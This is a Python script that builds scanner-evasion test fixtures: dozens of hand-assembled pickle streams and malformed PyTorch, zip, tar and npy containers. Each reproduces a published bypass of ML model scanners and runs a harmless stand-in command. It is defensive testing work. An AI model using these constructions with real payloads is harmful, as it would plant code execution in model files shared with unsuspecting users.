#!/usr/bin/python3
"""Regression fixtures for published bypasses of other ML model scanners.

Writes one artifact per technique into OUTDIR plus OUTDIR/manifest.tsv with the columns:
  file  technique  source  min_severity  rule_prefix  [forbidden_rule_prefix]
min_severity "none" marks a benign control: nothing above low may fire on it; a sixth column
names a rule that must not fire (e.g. a malformed-stream finding on a valid file).

Every payload is harmless if loaded (os.system('true'), builtins.print ...), and nothing is
ever loaded here: pickles are built with pickle.dumps of plain data or assembled by hand.
Usage: gen_bypass.py OUTDIR
"""
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
import base64
import gzip
import marshal

OUT = sys.argv[1]
os.makedirs(OUT, exist_ok=True)
MANIFEST = []


def case(name, data, technique, source, sev, prefix="WT-PICKLE", forbid=""):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    MANIFEST.append((name, technique, source, sev, prefix) + ((forbid,) if forbid else ()))


# ------------------------------------------------------------------ opcode assembler
def proto(n):
    return b"\x80" + bytes([n])


def su(s):  # SHORT_BINUNICODE
    b = s.encode() if isinstance(s, str) else s
    return b"\x8c" + bytes([len(b)]) + b


def bu(s):  # BINUNICODE
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def g(mod, name):  # GLOBAL (text)
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def sg(mod, name):  # STACK_GLOBAL with the strings pushed inline
    return su(mod) + su(name) + b"\x93"


MARK, TUPLE, TUPLE1, TUPLE2, EMPTY_TUPLE = b"(", b"t", b"\x85", b"\x86", b")"
REDUCE, STOP, BUILD, MEMOIZE, EMPTY_DICT = b"R", b".", b"b", b"\x94", b"}"
EMPTY_LIST, APPEND, SETITEM, NONE = b"]", b"a", b"s", b"N"


def binput(i):
    return b"q" + bytes([i])


def binget(i):
    return b"h" + bytes([i])


def call1(fn, arg):  # fn(arg) with fn already assembled
    return fn + arg + TUPLE1 + REDUCE


def frame(body):
    return b"\x95" + struct.pack("<Q", len(body)) + body


def p4(body):  # protocol 4 stream with one correct frame
    return proto(4) + frame(body + STOP)


TRUE = su("true")
SRC = "https://github.com/mmaitre314/picklescan/security/advisories"
FICK = "https://github.com/trailofbits/fickling"
MSCAN = "https://github.com/protectai/modelscan/issues/338"

# ------------------------------------------------------------------ pickle globals
case("p00_os_system.pkl", p4(call1(sg("os", "system"), TRUE)),
     "baseline os.system via REDUCE", "classic", "critical")
case("p01_pip_main.pkl",
     p4(call1(sg("pip", "main"), EMPTY_LIST + su("--version") + APPEND)),
     "pip.main(['--version'])", "CVE-2025-1716", "critical")
case("p02_asyncio_submodule.pkl",
     p4(call1(sg("asyncio.unix_events", "_UnixSubprocessTransport._start"), TRUE)),
     "asyncio.unix_events submodule (exact-name lists miss it)", "CVE-2025-10157", "critical")
case("p03_pkgutil_resolve_name.pkl",
     p4(call1(call1(sg("pkgutil", "resolve_name"), su("os:system")), TRUE)),
     "pkgutil.resolve_name('os:system')('true')", "GHSA-vvpj-8cmc-gx39", "critical")
case("p04_cprofile_run.pkl", p4(call1(sg("cProfile", "run"), su("print(1)"))),
     "cProfile.run(code string)", SRC + " GHSA-46h3-79wf-xr6c", "critical")
case("p05_pdb_run.pkl", p4(call1(sg("pdb", "run"), su("print(1)"))),
     "pdb.run(code string)", SRC + " GHSA-46h3-79wf-xr6c", "critical")
case("p06_timeit.pkl", p4(call1(sg("timeit", "timeit"), su("print(1)"))),
     "timeit.timeit(code string)", SRC + " GHSA-4675-36f9-wf6r", "critical")
case("p07_trace.pkl",
     p4(sg("trace", "Trace.runctx") + su("print(1)") + EMPTY_DICT + EMPTY_DICT
        + b"\x87" + REDUCE),
     "trace.Trace.runctx (dotted)", SRC + " GHSA-4675-36f9-wf6r", "critical")
case("p08_doctest.pkl", p4(call1(sg("doctest", "debug_script"), su("print(1)"))),
     "doctest.debug_script(code string)", SRC, "critical")
case("p09_idlelib.pkl",
     p4(sg("idlelib.pyshell", "ModifiedInterpreter.runcode") + NONE + su("print(1)")
        + TUPLE2 + REDUCE),
     "idlelib.pyshell.ModifiedInterpreter.runcode", SRC + " GHSA-r8g5-cgf2-4m4m", "critical")
case("p10_torch_bottleneck.pkl",
     p4(sg("torch.utils.bottleneck.__main__", "run_cprofile") + su("print(1)")
        + EMPTY_DICT + TUPLE2 + REDUCE),
     "torch.utils.bottleneck.__main__.run_cprofile", SRC, "critical")
case("p11_torch_dynamo.pkl",
     p4(call1(sg("torch._dynamo.guards", "GuardBuilder.get"), su("print(1)"))),
     "torch._dynamo.guards.GuardBuilder.get (eval)", SRC, "critical")
case("p12_numpy_f2py.pkl",
     p4(sg("numpy.f2py.crackfortran", "getlincoef") + su("print(1)") + EMPTY_DICT
        + TUPLE2 + REDUCE),
     "numpy.f2py.crackfortran.getlincoef (eval)", SRC, "critical")
case("p13_io_fileio.pkl", p4(call1(sg("_io", "FileIO"), su("/etc/hostname"))),
     "_io.FileIO C alias of io", SRC + " CVE-2025-10155", "critical")
case("p14_methodcaller.pkl",
     p4(call1(call1(sg("_operator", "methodcaller"), su("__len__")), su("x"))),
     "_operator.methodcaller C alias", SRC + " GHSA-m273-6v24-x4m4", "high")
case("p15_functools_partial.pkl",
     p4(sg("functools", "partial") + sg("builtins", "exec") + su("print(1)")
        + TUPLE2 + REDUCE + EMPTY_TUPLE + REDUCE),
     "functools.partial(exec, code)()", FICK + "/pull/210", "critical")
case("p16_builtins_getattribute.pkl",
     p4(call1(call1(sg("builtins", "__getattribute__"), su("eval")), su("print(1)"))),
     "builtins.__getattribute__('eval') (module method, not getattr)", SRC, "critical")
case("p17_torch_jit.pkl",
     p4(sg("torch.jit.unsupported_tensor_ops", "execWrapper") + su("print(1)")
        + EMPTY_DICT + EMPTY_DICT + b"\x87" + REDUCE),
     "torch.jit.unsupported_tensor_ops.execWrapper (exec)", SRC, "critical")
case("p18_torch_fx.pkl",
     p4(sg("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression")
        + MARK + NONE + su("print(1)") + EMPTY_LIST + TUPLE + REDUCE),
     "torch.fx ShapeEnv.evaluate_guards_expression (eval)", SRC, "critical")
case("p19_lib2to3.pkl",
     p4(sg("lib2to3.pgen2.grammar", "Grammar.loads") + NONE + su("x") + TUPLE2 + REDUCE),
     "lib2to3.pgen2.grammar.Grammar.loads (pickle.loads)", SRC + " GHSA-r8g5-cgf2-4m4m",
     "critical")
case("p20_distutils.pkl",
     p4(sg("distutils.file_util", "write_file") + su("/tmp/wt-bypass-x") + EMPTY_LIST
        + TUPLE2 + REDUCE),
     "distutils.file_util.write_file", "CVE-2025-10155", "critical")
case("p21_ensurepip.pkl",
     p4(call1(sg("ensurepip", "_run_pip"), EMPTY_LIST + su("--version") + APPEND)),
     "ensurepip._run_pip", SRC + " GHSA-vqmv-47xg-9wpr", "critical")
case("p22_venv.pkl", p4(call1(sg("venv", "create"), su("/tmp/wt-bypass-venv"))),
     "venv.create", SRC + " GHSA-vqmv-47xg-9wpr", "critical")
case("p23_sys_modules.pkl",
     p4(sg("operator", "getitem") + sg("sys", "modules") + su("os") + TUPLE2 + REDUCE),
     "operator.getitem(sys.modules, 'os')", FICK, "critical")
case("p24_copyreg_reconstructor_popen.pkl",
     p4(sg("copyreg", "_reconstructor") + sg("subprocess", "Popen") + sg("subprocess", "Popen")
        + EMPTY_LIST + su("true") + APPEND + b"\x87" + REDUCE),
     "copyreg._reconstructor(Popen, Popen, ['true']) (allowlisted wrapper)", FICK, "critical")
case("p25_obj_opcode.pkl", b"(" + g("os", "system") + b"S'true'\no.",
     "OBJ opcode calls the class/callable", FICK, "critical")
case("p26_inst_opcode.pkl", b"(S'true'\n" + b"i" + b"os\nsystem\n" + b".",
     "INST opcode (protocol 0)", FICK, "critical")
case("p27_newobj_popen.pkl",
     proto(2) + g("subprocess", "Popen") + EMPTY_TUPLE + b"\x81" + EMPTY_DICT + BUILD + STOP,
     "NEWOBJ of a dangerous class", FICK, "critical")
# BUILD injects __setstate__ as an instance attribute, the second BUILD calls it.
case("p28_build_setstate_inject.pkl",
     p4(sg("argparse", "Namespace") + EMPTY_TUPLE + REDUCE
        + NONE + EMPTY_DICT + su("__setstate__") + sg("os", "system") + SETITEM + TUPLE2 + BUILD
        + TRUE + BUILD),
     "BUILD sets __setstate__ then a second BUILD calls it", FICK, "critical")
case("p29_build_setstate_print.pkl",
     p4(sg("argparse", "Namespace") + EMPTY_TUPLE + REDUCE
        + NONE + EMPTY_DICT + su("__setstate__") + sg("builtins", "print") + SETITEM + TUPLE2
        + BUILD + su("hello") + BUILD),
     "BUILD-injected __setstate__ call with a benign-looking global", FICK, "medium")
# picklescan issue 14: BINPUT and MEMOIZE mixed so a scanner's memo indexes are wrong.
case("p30_memo_put_memoize_mix.pkl",
     proto(4) + su("os") + binput(0) + b"0" + su("system") + binput(1) + b"0"
     + su("torch._utils") + MEMOIZE + b"0" + su("_rebuild_tensor_v2") + MEMOIZE + b"0"
     + binget(0) + binget(1) + b"\x93" + TRUE + TUPLE1 + REDUCE + STOP,
     "memo confusion: BINPUT + MEMOIZE mixed, BINGET into STACK_GLOBAL",
     "https://github.com/mmaitre314/picklescan/issues/14", "critical")
case("p31_memo_overwrite.pkl",
     proto(4) + su("torch._utils") + binput(0) + su("_rebuild_tensor_v2") + binput(1)
     + b"0" + b"0" + su("os") + binput(0) + su("system") + binput(1) + b"0" + b"0"
     + binget(0) + binget(1) + b"\x93" + TRUE + TUPLE1 + REDUCE + STOP,
     "memo slot overwritten with a dangerous name before BINGET",
     "https://github.com/mmaitre314/picklescan/issues/22", "critical")
case("p32_long_binget.pkl",
     proto(4) + su("os") + b"r" + struct.pack("<I", 70000) + b"0" + su("system")
     + b"r" + struct.pack("<I", 5) + b"0"
     + b"j" + struct.pack("<I", 70000) + b"j" + struct.pack("<I", 5) + b"\x93"
     + TRUE + TUPLE1 + REDUCE + STOP,
     "LONG_BINPUT/LONG_BINGET with sparse memo indexes", "memo tricks", "critical")
# FRAME-boundary divergence: the declared frame ends inside the payload.
body = sg("os", "system") + TRUE + TUPLE1 + REDUCE + STOP
case("p33_frame_short.pkl", proto(4) + b"\x95" + struct.pack("<Q", 5) + body,
     "FRAME shorter than the opcodes it holds", "CPython issue 154848", "critical")
case("p34_frame_long.pkl",
     proto(4) + b"\x95" + struct.pack("<Q", len(body) + 4000) + body,
     "FRAME longer than the file", "CPython issue 154848", "critical")
case("p35_dotted_pathlib_os.pkl", p4(call1(sg("pathlib", "os.system"), TRUE)),
     "dotted name pathlib + os.system", "reference list", "critical")
case("p36_dotted_global_opcode.pkl",
     proto(4) + g("logging", "os.system") + TRUE + TUPLE1 + REDUCE + STOP,
     "dotted name in a GLOBAL opcode (logging.os.system)", "reference list", "critical")
case("p37_unicode_escape_proto0.pkl",
     b"V\\u006fs\nV\\u0073ystem\n\x93(S'true'\ntR.",
     "protocol 0 UNICODE with \\u escapes feeding STACK_GLOBAL", "modelscan issue", "critical")
case("p38_string_escape.pkl",
     b"S'o\\x73'\nS'sys\\x74em'\n\x93(S'true'\ntR.",
     "STRING opcode with \\x escapes feeding STACK_GLOBAL", MSCAN, "critical")
# Exception-directed programming: payload runs, then the stream trips the scanner.
case("p39_edp_bytes_operand.pkl",
     proto(4) + sg("os", "system") + TRUE + TUPLE1 + REDUCE
     + b"C\x02os" + su("system") + b"\x93" + STOP,
     "payload then STACK_GLOBAL with bytes operand (scanner TypeError)", MSCAN, "critical")
case("p40_edp_bad_memo.pkl",
     proto(4) + sg("os", "system") + TRUE + TUPLE1 + REDUCE + binget(99) + STOP,
     "payload then BINGET of a missing memo key", "https://github.com/protectai/modelscan/pull/348",
     "critical")
case("p41_edp_bytearray.pkl",
     proto(5) + sg("os", "system") + TRUE + TUPLE1 + REDUCE
     + su("os") + b"\x96" + struct.pack("<Q", 6) + b"system" + b"\x93" + STOP,
     "payload then STACK_GLOBAL with bytearray operand", MSCAN, "critical")
inner = proto(4) + sg("os", "system") + TRUE + TUPLE1 + REDUCE + STOP
case("p42_nested_zlib.pkl",
     p4(call1(sg("pickle", "loads"), call1(sg("zlib", "decompress"),
                                          b"C" + bytes([len(zlib.compress(inner))])
                                          + zlib.compress(inner)))),
     "pickle.loads(zlib.decompress(...)) obfuscation", MSCAN, "critical")
case("p43_nested_codecs.pkl",
     g("_pickle", "loads") + b"(" + g("_codecs", "encode") + b"(V" + inner.decode("latin1")
     .encode("raw_unicode_escape") + b"\nVlatin1\ntRtR.",
     "_pickle.loads(_codecs.encode(...)) nested pickle", "https://github.com/mmaitre314/picklescan/pull/25",
     "critical")
case("p44_nested_base64.pkl",
     p4(call1(sg("dill", "loads"), call1(sg("base64", "b64decode"),
                                        su(base64.b64encode(inner).decode())))),
     "dill.loads(base64.b64decode(...)) (dill.loads allowlisted elsewhere)", "reference list",
     "critical")
case("p45_ext1.pkl", proto(2) + b"\x82\x01" + TRUE + TUPLE1 + REDUCE + STOP,
     "EXT1 copyreg extension-registry call", "fickling", "high")
case("p46_broken_after_payload.pkl",
     proto(4) + sg("os", "system") + TRUE + TUPLE1 + REDUCE + b"\xff\xfe garbage",
     "nullifAI: payload before a broken stream", "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face",
     "critical")
case("p47_second_pickle.pkl",
     pickle.dumps({"w": [1, 2, 3]}, protocol=2) + proto(4) + sg("os", "system") + TRUE + TUPLE1
     + REDUCE + STOP,
     "payload in a second pickle after the first STOP", "modelscan", "critical")
case("p48_interpreters.pkl",
     p4(call1(sg("_interpreters", "run_string"), su("print(1)"))),
     "_interpreters.run_string (subinterpreter exec)", FICK + " GHSA-6ggj-6f2q-f7mx", "critical")
case("p49_xxsubinterpreters.pkl",
     p4(call1(sg("_xxsubinterpreters", "run_string"), su("print(1)"))),
     "_xxsubinterpreters.run_string", FICK + " GHSA-6ggj-6f2q-f7mx", "critical")
case("p50_profile_run.pkl", p4(call1(sg("profile", "run"), su("print(1)"))),
     "profile.run", FICK + "/pull/210", "critical")
case("p51_code_runcode.pkl",
     p4(sg("code", "InteractiveInterpreter.runcode") + NONE + su("print(1)") + TUPLE2 + REDUCE),
     "code.InteractiveInterpreter.runcode", SRC, "critical")
case("p52_importlib_attrgetter.pkl",
     p4(call1(call1(sg("operator", "attrgetter"), su("system")),
              call1(sg("importlib", "import_module"), su("os")))),
     "attrgetter('system')(importlib.import_module('os'))",
     "https://github.com/mmaitre314/picklescan/issues/66", "critical")
case("p53_marshal_function.pkl",
     p4(sg("types", "FunctionType")
        + call1(sg("marshal", "loads"),
                b"C" + bytes([len(marshal.dumps(compile("1", "<s>", "eval")))])
                + marshal.dumps(compile("1", "<s>", "eval")))
        + EMPTY_DICT + TUPLE2 + REDUCE),
     "types.FunctionType(marshal.loads(code))", "https://github.com/mmaitre314/picklescan/pull/74",
     "critical")
case("p54_getattr_memo.pkl",
     proto(4) + sg("builtins", "getattr") + MEMOIZE
     + call1(sg("builtins", "__import__"), su("os")) + su("system") + TUPLE2 + REDUCE
     + TRUE + TUPLE1 + REDUCE + STOP,
     "getattr(__import__('os'), 'system')", "classic", "critical")
case("p55_torch_load_nested.pkl",
     p4(call1(sg("torch.storage", "_load_from_bytes"),
              b"C" + bytes([len(inner)]) + inner)),
     "torch.storage._load_from_bytes(nested pickle)", "reference list", "critical")
case("p56_collect_env.pkl", p4(call1(sg("torch.utils.collect_env", "run"), TRUE)),
     "torch.utils.collect_env.run(command)", SRC, "critical")
case("p57_inductor.pkl",
     p4(call1(sg("torch._inductor.codecache", "compile_file"), su("x.cpp"))),
     "torch._inductor.codecache.compile_file", SRC, "critical")
case("p58_pty_spawn.pkl", b"(cpty\nspawn\nS\"true\"\no.",
     "pty.spawn via OBJ", "https://github.com/trailofbits/fickling/pull/108", "critical")
case("p59_numpy_runstring.pkl",
     p4(sg("numpy.testing._private.utils", "runstring") + su("print(1)") + EMPTY_DICT
        + TUPLE2 + REDUCE),
     "numpy.testing._private.utils.runstring", SRC, "critical")
case("p60_builtin_py2.pkl", g("__builtin__", "eval") + b"(S'print(1)'\ntR.",
     "__builtin__ (Python 2 name) eval", "classic", "critical")
case("p61_uuid_cmd.pkl", p4(call1(sg("uuid", "_get_command_stdout"), TRUE)),
     "uuid._get_command_stdout", "reference list", "critical")
case("p62_pandas_read_pickle.pkl", p4(call1(sg("pandas", "read_pickle"), su("/tmp/x.pkl"))),
     "pandas.read_pickle (loads another pickle file)", "ModelAudit", "critical")
case("p63_setuptools_sandbox.pkl",
     p4(call1(sg("setuptools.sandbox", "run_setup"), su("setup.py"))),
     "setuptools.sandbox.run_setup", "reference list", "critical")
case("p64_threading_thread.pkl",
     p4(sg("threading", "Thread") + NONE + sg("builtins", "print") + TUPLE2 + REDUCE),
     "threading.Thread(target=...)", "reference list", "critical")
case("p65_getattr_dunder_globals.pkl",
     p4(sg("operator", "getitem")
        + call1(call1(sg("operator", "attrgetter"), su("__init__.__globals__")),
                sg("argparse", "Namespace"))
        + su("_os") + TUPLE2 + REDUCE),
     "attrgetter('__init__.__globals__') on an allowlisted class", FICK, "high")
case("p66_webbrowser.pkl", p4(call1(sg("webbrowser", "open"), su("http://127.0.0.1/"))),
     "webbrowser.open", "reference list", "critical")

case("p67_alias_np_load.pkl",
     p4(call1(sg("pandas.core.frame", "np.load"), su("/tmp/x.npy"))),
     "np alias through an allowlisted module (pandas.core.frame.np.load)", "alias of a denied module",
     "high")
case("p68_alias_torch_load.pkl",
     p4(call1(sg("torch.nn.modules.module", "torch.load"), su("/tmp/x.pt"))),
     "torch.load reached through an allowlisted torch.nn module", "CVE-2025-10157 family", "critical")
case("p69_edp_next_buffer.pkl",
     proto(5) + sg("os", "system") + TRUE + TUPLE1 + REDUCE + b"\x97" + STOP,
     "payload then NEXT_BUFFER without buffers (load raises after the call)", MSCAN, "critical")
case("p70_big_padding.pkl",
     proto(4) + b"\x8e" + struct.pack("<Q", 12 << 20) + b"\x00" * (12 << 20) + b"0"
     + sg("os", "system") + TRUE + TUPLE1 + REDUCE + STOP,
     "payload after 12 MiB of BINBYTES8 padding (scanner size caps)", "ModelAudit size limits",
     "critical")
n1 = inner
for _ in range(3):
    n1 = proto(4) + sg("pickle", "loads") + b"C" + bytes([len(n1)]) + n1 + TUPLE1 + REDUCE + STOP \
        if len(n1) < 256 else n1
case("p71_nested_depth3.pkl", n1, "pickle.loads nested three deep", "nested pickles", "critical")
case("p72_ext4.pkl", proto(2) + b"\x84" + struct.pack("<i", 0x7fff0001) + TRUE + TUPLE1 + REDUCE + STOP,
     "EXT4 extension-registry call", "fickling", "high")
case("p73_persid_noise.pkl",
     proto(2) + b"P0\n" + b"0" + g("os", "system") + b"X\x04\x00\x00\x00true" + TUPLE1 + REDUCE + STOP,
     "PERSID before the payload (persistent_load raises in plain pickle)", "modelscan", "critical")
case("p74_reconstruct_from_type.pkl",
     p4(sg("torch._tensor", "_rebuild_from_type_v2") + MARK + sg("builtins", "exec") + sg("torch", "Tensor")
        + su("print(1)") + TUPLE1 + EMPTY_DICT + TUPLE + REDUCE),
     "allowlisted torch._tensor._rebuild_from_type_v2 calls its first argument", "allowlist abuse",
     "critical")

PAY = sg("os", "system") + TRUE + TUPLE1 + REDUCE + STOP
case("p75_mark_padding.pkl", proto(4) + MARK * 1100000 + PAY,
     "1.1M MARKs before the payload (scanner mark-stack budget)", "budget exhaustion", "critical")
case("p76_stack_padding.pkl", proto(4) + NONE * 1100000 + b"0" * 1100000 + PAY,
     "1.1M pushes and pops before the payload (stack budget)", "budget exhaustion",
     "critical")
case("p77_memo_padding.pkl", proto(4) + (NONE + MEMOIZE) * 1100000 + binget(3) + b"0" + PAY,
     "1.1M memo entries before the payload (memo budget)", "budget exhaustion", "critical")

case("p78_no_proto_header.jpg", sg("os", "system") + TRUE + TUPLE1 + REDUCE + STOP,
     "protocol 4 opcodes without the PROTO header (no \\x80 magic), named .jpg", "CVE-2025-10155 family",
     "critical")
case("p79_frame_first.bin", frame(sg("os", "system") + TRUE + TUPLE1 + REDUCE + STOP),
     "stream starting with FRAME (no PROTO), named .bin", "CVE-2025-10155 family", "critical")

case("p80_allowlisted_method_walk.pkl",
     p4(sg("pandas.core.frame", "DataFrame.to_csv") + sg("pandas.core.frame", "DataFrame") + EMPTY_TUPLE
        + REDUCE + su("/tmp/wt-bypass.csv") + TUPLE2 + REDUCE),
     "method walk through an allowlisted module (DataFrame.to_csv writes a file)", "allowlist abuse",
     "medium")
case("p81_scipy_save_npz.pkl",
     p4(sg("scipy.sparse", "save_npz") + su("/tmp/wt-bypass.npz") + NONE + TUPLE2 + REDUCE),
     "scipy.sparse.save_npz under the scipy.sparse allowlist (file write)", "allowlist abuse", "high")

blob = base64.b64encode(b"\x00" * (3 << 19))
case("p82_redecode_loop.pkl",
     proto(4) + sg("base64", "b64decode") + MEMOIZE + b"\x8d" + struct.pack("<Q", len(blob)) + blob + MEMOIZE
     + b"00" + (binget(0) + binget(1) + TUPLE1 + REDUCE + b"0") * 400 + PAY,
     "one 2 MiB blob base64-decoded 400 times before the payload (scanner time budget)",
     "budget exhaustion", "critical")

# ------------------------------------------------------------------ containers / routing
mal = proto(2) + g("os", "system") + b"X\x04\x00\x00\x00true" + TUPLE1 + REDUCE + STOP
mal0 = b"cos\nsystem\n(S'true'\ntR."
case("c01_pickle_as.jpg", mal, "pickle named .jpg", "CVE-2025-1889", "critical")
case("c02_pytorch_model.bin", mal0, "protocol 0 pickle named .bin (no \\x80 magic)",
     "CVE-2025-10155", "critical")
case("c03_noext", mal, "pickle with no extension", "CVE-2025-1889", "critical")


def torch_zip(members, folder="archive", compress=zipfile.ZIP_STORED):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", compress) as z:
        for n, d in members:
            z.writestr(folder + "/" + n if folder else n, d)
    return bio.getvalue()


def real_state_dict_pickle():
    p = proto(2) + g("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + b"q\x00("
    for i, name in enumerate(["fc.weight", "fc.bias"]):
        p += (b"X" + struct.pack("<I", len(name)) + name.encode()
              + g("torch._utils", "_rebuild_tensor_v2")
              + b"(" + b"(X\x07\x00\x00\x00storage" + g("torch", "FloatStorage")
              + b"X\x01\x00\x00\x00" + str(i).encode() + b"X\x03\x00\x00\x00cpu" + b"K\x04"
              + b"tQ" + b"K\x00K\x02K\x02\x86K\x02K\x01\x86\x89"
              + g("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + b"tR")
    p += b"u."
    return p


SD = real_state_dict_pickle()
TENS = [("data/0", b"\x00" * 16), ("data/1", b"\x00" * 16), ("version", b"3\n"),
        ("byteorder", b"little")]
case("c04_torch_zip.pt", torch_zip([("data.pkl", mal)] + TENS),
     "PyTorch zip with malicious data.pkl (baseline)", "classic", "critical")


def patch_local_name(zbytes, old, new):
    # rename in the local header only (same length), central directory keeps the old name
    i = zbytes.find(b"PK\x03\x04")
    while i >= 0:
        nlen = struct.unpack_from("<H", zbytes, i + 26)[0]
        name = zbytes[i + 30:i + 30 + nlen]
        if name == old:
            return zbytes[:i + 30] + new + zbytes[i + 30 + nlen:]
        i = zbytes.find(b"PK\x03\x04", i + 4)
    raise SystemExit("name not found")


z = torch_zip([("data.pkl", SD), ("data/0", b"\x00" * 16), ("data/1", b"\x00" * 16),
               ("xxxxxxxx", mal), ("version", b"3\n")])
case("c05_zip_name_mismatch.pt", patch_local_name(z, b"archive/xxxxxxxx", b"archive/data.pkl"),
     "local/central name mismatch hides data.pkl", "CVE-2025-1944", "critical")
z = bytearray(torch_zip([("data.pkl", mal)] + TENS))
for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
    i = z.find(sig)
    while i >= 0:
        z[i + off] |= 0x01  # "encrypted"
        i = z.find(sig, i + 4)
case("c06_zip_flag_bits.pt", bytes(z), "zip flag bits claim encryption", "CVE-2025-1945",
     "critical")
z = bytearray(torch_zip([("data.pkl", mal)] + TENS))
i = z.find(b"PK\x03\x04")
z[i + 14] ^= 0xFF
j = z.find(b"PK\x01\x02")
z[j + 16] ^= 0xFF
case("c07_zip_bad_crc.pt", bytes(z), "bad CRC-32 on data.pkl", "CVE-2025-10156", "critical")
# nullifAI: PyTorch zip packed with 7z instead of zip, and a broken pickle stream.
tmpd = os.path.join(OUT, ".7ztmp")
os.makedirs(os.path.join(tmpd, "archive"), exist_ok=True)
with open(os.path.join(tmpd, "archive", "data.pkl"), "wb") as f:
    f.write(mal + b"\x00\xff broken")
with open(os.path.join(tmpd, "archive", "version"), "wb") as f:
    f.write(b"3\n")
seven = os.path.join(OUT, "c08_nullifai_7z.pt")
subprocess.run(["7z", "a", "-t7z", "-bso0", "-bsp0", seven, "archive"], cwd=tmpd, check=True)
for root, dirs, files in os.walk(tmpd, topdown=False):
    for fn in files:
        os.unlink(os.path.join(root, fn))
    for dn in dirs:
        os.rmdir(os.path.join(root, dn))
os.rmdir(tmpd)
MANIFEST.append(("c08_nullifai_7z.pt", "nullifAI: 7z-compressed PyTorch with broken pickle",
                 "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face",
                 "critical", "WT-PICKLE"))
case("c09_nullifai_broken_zip.pt",
     torch_zip([("data.pkl", mal[:-1] + b"\x00\x01\x02")] + TENS),
     "nullifAI: payload then corrupt opcode inside a PyTorch zip", "nullifAI", "critical")
legacy = (pickle.dumps(0x1950a86a20f9469cfc6c, protocol=2) + pickle.dumps(1001, protocol=2)
          + pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2) + mal
          + pickle.dumps(["0"], protocol=2))
case("c10_torch_legacy.pt", legacy, "torch.save legacy (non-zip) stream", "modelscan", "critical")
tb = io.BytesIO()
with tarfile.open(fileobj=tb, mode="w", format=tarfile.USTAR_FORMAT) as t:
    for n, d in (("sys_info", pickle.dumps({"protocol_version": 1000}, protocol=2)),
                 ("pickle", mal), ("storages", pickle.dumps(0, protocol=2)),
                 ("tensors", pickle.dumps(0, protocol=2))):
        ti = tarfile.TarInfo(n)
        ti.size = len(d)
        ti.mtime = 0
        t.addfile(ti, io.BytesIO(d))
case("c11_torch_legacy_tar.pt", tb.getvalue(), "legacy PyTorch tar layout", "torch", "critical")
hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
hdr += " " * (63 - (10 + len(hdr)) % 64) + "\n"
npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() + mal
case("c12_object_array.npy", npy, "pickle inside a .npy object array", "modelscan", "critical")
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w") as zz:
    zz.writestr("arr_0.npy", npy)
case("c13_object.npz", zb.getvalue(), "object .npy inside .npz", "modelscan", "critical")
case("c14_joblib_zlib.joblib", zlib.compress(mal),
     "joblib zlib-compressed pickle", "modelscan", "critical")
tb = io.BytesIO()
with tarfile.open(fileobj=tb, mode="w:gz") as t:
    ti = tarfile.TarInfo("model/weights.pkl")
    ti.size = len(mal)
    t.addfile(ti, io.BytesIO(mal))
case("c15_model.tar.gz", tb.getvalue(), "pickle inside tar.gz", "containers", "critical")
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w", zipfile.ZIP_DEFLATED) as zz:
    zz.writestr("inner.zip", torch_zip([("data.pkl", mal)] + TENS))
case("c16_zip_in_zip.zip", zb.getvalue(), "PyTorch zip inside a zip", "containers", "critical")
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w") as zz:
    zz.writestr("model/version", b"3\n")
    zz.writestr("decoy/data.pkl", SD)
    zz.writestr("model/data.pkl", mal)
    zz.writestr("model/data/0", b"\x00" * 16)
case("c17_torch_decoy_folder.pt", zb.getvalue(),
     "decoy data.pkl in another folder; torch loads <first entry's folder>/data.pkl",
     "picklescan/ModelAudit", "critical")
case("c23_torchscript_constants.pt",
     torch_zip([("data.pkl", SD), ("constants.pkl", mal), ("code/__torch__.py", b"def f(x):\n  return x\n")]
               + TENS),
     "TorchScript constants.pkl carries the payload", "ModelAudit", "critical")
case("c18_torch_odd_folder.pt", torch_zip([("data.pkl", mal)] + TENS, folder="weird name"),
     "PyTorch zip with an arbitrary top-level folder", "picklescan", "critical")
case("c19_gzip.pt", gzip.compress(mal, mtime=0), "gzip-compressed pickle named .pt",
     "containers", "critical")
z = torch_zip([("data.pkl", SD)] + TENS)
case("c20_pickle_zip_polyglot.pt", mal + z,
     "pickle + zip polyglot: torch.load unpickles the prefix (no PK magic at 0)", "zip tricks",
     "critical")
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w") as zz:
    zz.writestr("archive/data.pkl", mal)
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        zz.writestr("archive/data.pkl", SD)
    for n, d in TENS:
        zz.writestr("archive/" + n, d)
case("c21_zip_duplicate.pt", zb.getvalue(), "duplicate data.pkl (first malicious, last benign)",
     "zip tricks", "critical")
# deflated data.pkl whose local header says stored (method mismatch)
z = bytearray(torch_zip([("data.pkl", mal * 20)] + TENS, compress=zipfile.ZIP_DEFLATED))
i = z.find(b"PK\x03\x04")
struct.pack_into("<H", z, i + 8, 0)
case("c22_zip_method_mismatch.pt", bytes(z), "local header claims stored, central deflated",
     "CVE-2025-1944 family", "critical")



class _Unseekable(io.RawIOBase):
    def __init__(self):
        self.buf = bytearray()

    def writable(self):
        return True

    def write(self, b):
        self.buf += b
        return len(b)


u = _Unseekable()
with zipfile.ZipFile(u, "w") as zz:
    for n, d in [("data.pkl", mal)] + TENS:
        with zz.open("archive/" + n, "w") as w:
            w.write(d)
case("c24_zip_data_descriptor.pt", bytes(u.buf), "zip written to a pipe: data descriptors, zero sizes in local headers",
     "zip tricks", "critical")
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w") as zz:
